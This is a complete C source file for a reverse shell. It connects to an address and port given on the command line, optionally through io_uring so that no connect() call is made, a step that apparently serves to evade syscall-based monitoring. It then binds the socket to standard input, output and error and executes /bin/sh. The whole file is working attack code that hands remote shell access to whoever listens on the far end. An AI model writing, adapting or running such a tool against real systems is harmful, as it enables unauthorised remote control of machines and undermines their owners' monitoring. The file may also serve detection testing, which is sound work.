/* revshell ADDRESS PORT [io_uring]: a shell whose standard input and output are a connection that
 * it made itself, by dup2() and exec. With io_uring no connect() is called: the ring does it. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static void *map_ring(int ring, size_t size, long offset)
{
	void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, offset);

	return at == MAP_FAILED ? NULL : at;
}

/* One request, waited for. Its result, or a negative errno. */
static int ring_connect(int fd, const struct sockaddr_in *to)
{
	struct io_uring_params p = {0};
	int ring = (int)syscall(SYS_io_uring_setup, 1, &p);
	size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(uint32_t);
	size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	char *sq = ring < 0 ? NULL : map_ring(ring, sq_size, IORING_OFF_SQ_RING);
	char *cq = sq ? map_ring(ring, cq_size, IORING_OFF_CQ_RING) : NULL;
	struct io_uring_sqe *sqe =
		cq ? map_ring(ring, p.sq_entries * sizeof(*sqe), (long)IORING_OFF_SQES) : NULL;
	const struct io_uring_cqe *cqe;

	if (!sqe)
		return -errno;
	memset(sqe, 0, sizeof(*sqe));
	sqe->opcode = IORING_OP_CONNECT;
	sqe->fd = fd;
	sqe->addr = (uintptr_t)to;
	sqe->off = sizeof(*to);
	((uint32_t *)(void *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((uint32_t *)(void *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	cqe = (const struct io_uring_cqe *)(const void *)(cq + p.cq_off.cqes);
	close(ring);
	return cqe->res;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	int fd = socket(AF_INET, SOCK_STREAM, 0), err;

	if (argc < 3 || fd < 0 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
		fputs("usage: revshell ADDRESS PORT [io_uring]\n", stderr);
		return 64;
	}
	to.sin_port = htons((uint16_t)strtoul(argv[2], NULL, 10));
	if (argc > 3)
		err = ring_connect(fd, &to);
	else
		err = connect(fd, (struct sockaddr *)&to, sizeof(to)) ? -errno : 0;
	if (err) {
		fprintf(stderr, "revshell: %s\n", strerror(-err));
		return 1;
	}
	printf("revshell: pid %d\n", getpid());
	fflush(stdout);
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	close(fd);
	execl("/bin/sh", "sh", (char *)NULL);
	return 1;
}
